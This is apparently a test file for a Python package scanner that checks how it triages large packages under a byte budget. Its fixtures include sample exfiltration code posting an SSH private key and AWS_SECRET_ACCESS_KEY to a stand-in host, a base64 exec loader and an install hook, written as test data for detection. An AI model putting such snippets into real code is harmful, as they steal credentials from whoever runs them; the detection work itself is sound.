"""Large packages: triage, the byte budget, and the one note that says what was skipped."""

from __future__ import annotations

from stockade.analysis.model import Kind, Phase, Severity
from stockade.analysis.python import PythonAnalyzer
from tests.analysis.python.helpers import code, hits, rules, scan

RUNTIME, IMPORT, INSTALL = Phase.RUNTIME, Phase.IMPORT, Phase.INSTALL

NETWORK_MODULE = code(
    """
    import requests

    def fetch(url):
        return requests.get(url, timeout=5).json()
    """
)


def _padding(kilobytes: int) -> str:
    return ("# " + "filler " * 9 + "\n") * (kilobytes * 16)


def test_small_packages_are_analysed_in_full() -> None:
    findings = scan({"pkg/__init__.py": "", "pkg/util.py": "import os\nos.getenv('API_TOKEN')\n"})
    assert hits(findings, "py-secret-env") == [(2, RUNTIME)]
    assert "py-analysis-budget" not in rules(findings)


def test_files_past_the_budget_are_only_triaged_and_one_note_says_so() -> None:
    files: dict[str, str | bytes] = {"pkg/__init__.py": "from . import a\n"}
    for name in "abcdef":
        files[f"pkg/{name}.py"] = NETWORK_MODULE + _padding(20)
    files["pkg/plain.py"] = "VALUE = 1\n" + _padding(20)
    analyzer = PythonAnalyzer(full_below=0, budget=50_000, strong_budget=0)
    findings = scan(files, analyzer=analyzer)
    analysed = {f.path for f in findings if f.rule == "py-network"}
    assert analysed == {"pkg-1.0/pkg/a.py", "pkg-1.0/pkg/b.py"}
    notes = [f for f in findings if f.rule == "py-analysis-budget"]
    assert len(notes) == 1
    note = notes[0]
    assert note.kind is Kind.CAPABILITY and note.severity is Severity.INFO
    assert note.path == "" and note.phase is None
    assert "4 files (0.1 MB) that name calls" in note.message
    assert "1 file (0.0 MB) name none" in note.message


def test_files_that_run_earlier_come_first_then_smaller_ones() -> None:
    late = NETWORK_MODULE + _padding(30)
    files: dict[str, str | bytes] = {
        "pkg/__init__.py": "from . import late\n",
        "pkg/late.py": late,
        "pkg/small.py": NETWORK_MODULE + _padding(2),
        "pkg/large.py": NETWORK_MODULE + _padding(10),
    }
    analyzer = PythonAnalyzer(full_below=0, budget=len(late) + 100, strong_budget=0)
    findings = scan(files, analyzer=analyzer)
    analysed = {f.path.rsplit("/", 1)[-1] for f in findings if f.rule == "py-network"}
    assert analysed == {"late.py"}
    analyzer = PythonAnalyzer(full_below=0, budget=len(late) - 100, strong_budget=0)
    findings = scan({**files, "pkg/__init__.py": ""}, analyzer=analyzer)
    analysed = {f.path.rsplit("/", 1)[-1] for f in findings if f.rule == "py-network"}
    assert analysed == {"small.py", "large.py"}


def test_one_file_larger_than_the_budget_is_still_analysed() -> None:
    files: dict[str, str | bytes] = {"pkg/big.py": NETWORK_MODULE + _padding(80)}
    findings = scan(files, analyzer=PythonAnalyzer(full_below=0, budget=10_000))
    assert "py-network" in rules(findings)


def test_strong_and_alarming_files_are_analysed_past_the_budget() -> None:
    stealer = code(
        """
        import requests
        from pathlib import Path

        def steal():
            key = (Path.home() / ".ssh" / "id_rsa").read_text()
            requests.post("https://collect.test/k", data=key)
        """
    )
    loader = 'import base64\nexec(base64.b64decode("cHJpbnQoJ2hlbGxvIHdvcmxkJyk="))\n'
    files: dict[str, str | bytes] = {
        "pkg/__init__.py": "",
        "pkg/net.py": NETWORK_MODULE,
        "pkg/stealer.py": stealer + _padding(10),
        "pkg/loader.py": loader + _padding(30),
    }
    analyzer = PythonAnalyzer(full_below=0, budget=0, strong_budget=20_000)
    findings = scan(files, analyzer=analyzer)
    assert "py-exec-decoded" in rules(findings)
    assert {f.path for f in findings if f.rule == "py-credential-path"} == {
        "pkg-1.0/pkg/stealer.py"
    }
    assert "py-network" not in {f.rule for f in findings if f.path.endswith("net.py")}
    no_strong = PythonAnalyzer(full_below=0, budget=0, strong_budget=0)
    findings = scan(files, analyzer=no_strong)
    assert "py-exec-decoded" in rules(findings)
    assert "py-credential-path" not in rules(findings)


def test_test_files_are_parsed_only_with_strong_signs() -> None:
    files: dict[str, str | bytes] = {
        "tests/test_client.py": "import subprocess\nsubprocess.run(['ls'])\n",
        "tests/test_hook.py": 'URL = "https://discord.com/api/webhooks/000000/xxxx"\n',
    }
    findings = scan(files)
    assert {f.path for f in findings} == {"pkg-1.0/tests/test_hook.py"}


def test_files_triage_leaves_out_still_carry_the_import_phase() -> None:
    files: dict[str, str | bytes] = {
        "pkg/__init__.py": "from . import config\n",
        "pkg/config.py": "try:\n    from .telemetry import start\nexcept ImportError:\n    pass\n",
        "pkg/telemetry.py": code(
            """
            import os
            import requests
            requests.post("https://collect.test/t", data=os.environ["AWS_SECRET_ACCESS_KEY"])
            """
        ),
    }
    findings = scan(files, analyzer=PythonAnalyzer(full_below=0))
    assert hits(findings, "py-exfil-data") == [(3, IMPORT)]
    assert all(not f.path.endswith("config.py") for f in findings)


def test_command_hook_modules_are_always_analysed() -> None:
    files: dict[str, str | bytes] = {
        "setup.py": code(
            """
            from setuptools import setup
            from build_tools.commands import PostInstall
            setup(name="pkg", cmdclass={"install": PostInstall})
            """
        ),
        "build_tools/__init__.py": "",
        "build_tools/commands.py": code(
            """
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    install.run(self)
            """
        ),
    }
    findings = scan(files, analyzer=PythonAnalyzer(full_below=0, budget=0, strong_budget=0))
    assert hits(findings, "py-install-hook") == [(3, INSTALL)]
